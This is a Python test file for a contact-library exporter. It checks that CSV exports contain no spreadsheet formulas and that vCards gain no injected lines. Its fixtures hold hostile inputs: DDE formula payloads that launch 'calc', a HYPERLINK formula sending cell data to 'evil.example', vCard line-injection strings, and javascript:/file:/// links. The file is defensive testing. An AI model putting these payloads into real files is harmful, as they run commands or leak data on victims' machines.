"""What the library holds of strangers' words: no formula in a CSV, no line of its own in a vCard."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest

from inroad.state import Email
from inroad.tools.store.entries import LibraryEntry
from inroad.tools.store.export import neutralised, write_csv, write_vcards
from tests.reliability import RELIABILITY, Figure

NOW = datetime(2026, 3, 14, tzinfo=UTC)
SIGNS = "=+-@＝＋－＠﹢﹣﹫﹦"
COMMAND = "cmd|' /C calc'!A0"
FORMULAS = [
    *(f"{sign}{COMMAND}" for sign in SIGNS),
    *(f"{start}={COMMAND}" for start in "\t\r\n \u00a0\u3000\u200b\ufeff\v\x00\""),
    # A spreadsheet whose list separator is another one begins a new cell there.
    *(f"Engineer{mark}{sign}{COMMAND}" for mark in (";", "; ", "\t", "|", "\n", "\r\n") for sign in "=+-@＝"),
    f'Engineer",={COMMAND}',
    f'Engineer";={COMMAND}',
    f'Engineer\n"={COMMAND}"',
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "=1+1",
    "+1 (512) 555-0100",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%0A=1",
    "=",
]  # fmt: skip
HARMLESS = [
    "Ada Lovelace",
    "C++ Engineer",
    "a=b",
    "R&D - Berlin",
    "jean-luc@mail.example",
    "",
    "Ops; Platform",
    "O'Dell",
]


def entry(text: str) -> LibraryEntry:
    return LibraryEntry(
        person_id=text,
        first_name=text,
        last_name=text,
        title=text,
        company=text,
        location=text,
        linkedin=text,
        sources=[text],
        email=Email(address=text, source=text),
        first_seen=NOW,
        last_seen=NOW,
    )


def cells(text: str, separator: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


def is_formula(cell: str) -> bool:
    visible = cell.lstrip(' \t\r\n\v\f\x00\u00a0\u3000\u200b\ufeff"')
    return visible.startswith(tuple(SIGNS))


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"], ids=["comma", "semicolon", "tab", "bar"])
def test_no_cell_of_an_export_is_a_formula(
    separator: str, tmp_path: Path, record_property: Callable[[str, object], None]
) -> None:
    held = 0
    for number, formula in enumerate(FORMULAS):
        file = tmp_path / f"{number}.csv"
        write_csv([entry(formula)], file)
        found = [cell for cell in cells(file.read_text(encoding="utf-8-sig"), separator) if is_formula(cell)]
        assert found == [], formula
        held += 1
    record_property(RELIABILITY, Figure("formulas in exports", len(FORMULAS), held).row())


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert neutralised(text) == text


LINES = ["\n", "\r", "\r\n", "\v", "\f", "\x85", "\u2028", "\u2029", "\x1c", "\\n", ";", ",", ":"]
CARD = ("BEGIN", "VERSION", "UID", "FN", "N", "EMAIL", "TITLE", "ORG", "URL", "NOTE", "REV", "END")


@pytest.mark.parametrize("end", LINES, ids=ascii)
def test_a_name_adds_no_line_to_a_card(end: str, tmp_path: Path) -> None:
    file = tmp_path / "a.vcf"
    name = f"Ada{end}EMAIL:evil@evil.example{end}END:VCARD{end}BEGIN:VCARD{end}x\x1b[0m"
    write_vcards([entry(name).model_copy(update={"linkedin": f"https://{name}"})], file)
    text = file.read_bytes().decode()
    unfolded = text.replace("\r\n ", "")
    assert [line.split(":")[0].split(";")[0] for line in unfolded.splitlines()] == list(CARD)
    assert text.count("BEGIN:VCARD\r\n") == text.count("\r\nEND:VCARD\r\n") == 1
    assert not any(char < " " for char in text.replace("\r\n", ""))


@pytest.mark.parametrize(
    "link", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "vbscript:x", "ftp://x"]
)
def test_a_card_links_to_the_web_only(link: str, tmp_path: Path) -> None:
    file = tmp_path / "a.vcf"
    write_vcards([entry("Ada").model_copy(update={"linkedin": link})], file)
    assert "URL:" not in file.read_text(encoding="utf-8")


def test_a_card_shows_a_profile(tmp_path: Path) -> None:
    file = tmp_path / "a.vcf"
    write_vcards([entry("Ada").model_copy(update={"linkedin": "https://www.linkedin.com/in/ada"})], file)
    assert "URL:https://www.linkedin.com/in/ada" in file.read_text(encoding="utf-8")
